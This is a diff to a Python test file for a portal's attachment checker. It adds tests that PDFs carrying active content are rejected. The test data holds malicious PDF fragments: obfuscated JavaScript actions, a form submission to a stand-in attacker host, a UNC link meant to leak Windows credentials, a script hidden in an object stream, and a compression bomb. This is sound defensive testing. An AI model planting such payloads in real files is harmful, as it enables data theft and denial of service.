@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import zlib
 
 import pytest
 from PIL import ExifTags, Image
@@ -26,6 +27,8 @@ from tests.portal.attachment_files import (
     gif_frame_bomb,
     image_bytes,
     jpeg_with_gps,
+    pdf_hiding_a_script_in_an_object_stream,
+    pdf_with,
 )
 
 MB = 1024 * 1024
@@ -47,6 +50,34 @@ def test_images_are_known_by_their_bytes_whatever_their_name(fmt, content_type):
 def test_a_pdf_is_known_by_its_header_and_trailer():
     checked = check(PDF, name="receipt.png")
     assert (checked.kind, checked.content_type, checked.data, checked.preview) == ("pdf", "application/pdf", PDF, None)
+
+
+@pytest.mark.parametrize("extra", [
+    b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>",  # names written with #xx escapes
+    b"/Names << /#45mbeddedFiles 5 0 R >>",
+    b"/OpenAction << /S /SubmitForm /F (https://evil.example/collect) >>",
+    b"/AA << /O << /S /ImportData /F (x.fdf) >> >>",
+    b"/OpenAction << /S /GoToR /F (//evil.example/share/x.pdf) >>",  # leaks the reader's Windows login
+])
+def test_a_pdf_with_active_content_is_refused_however_it_is_spelled(extra):
+    with pytest.raises(UnsupportedType):
+        check(pdf_with(extra), name="statement.pdf")
+
+
+def test_a_pdf_cannot_hide_a_script_in_a_compressed_object_stream():
+    with pytest.raises(UnsupportedType):
+        check(pdf_hiding_a_script_in_an_object_stream(), name="statement.pdf")
+    encrypted = pdf_hiding_a_script_in_an_object_stream().replace(b"trailer <<", b"trailer << /Encrypt 9 0 R")
+    with pytest.raises(UnsupportedType):  # its object streams are encrypted: unreadable to us, refused
+        check(encrypted, name="statement.pdf")
+
+
+def test_a_pdf_with_compressed_pages_is_kept_and_a_compression_bomb_is_not():
+    page = zlib.compress(b"BT /F1 12 Tf 72 712 Td (Refund of order BN-1048231 / JS) Tj ET")
+    assert check(pdf_with(b"/OpenAction [3 0 R /Fit]", (page,)), name="ok.pdf").kind == "pdf"
+    bomb = zlib.compress(b"\0" * (300 * MB), 9)  # 300 KB that inflate to 300 MB
+    with pytest.raises(TooLarge):
+        check(pdf_with(streams=(bomb,)), name="bomb.pdf")
 
 
 @pytest.mark.parametrize("data", [HTML, SVG, POLYGLOT_GIF, b"%PDF-1.4 but never finished", PDF_WITH_SCRIPT,
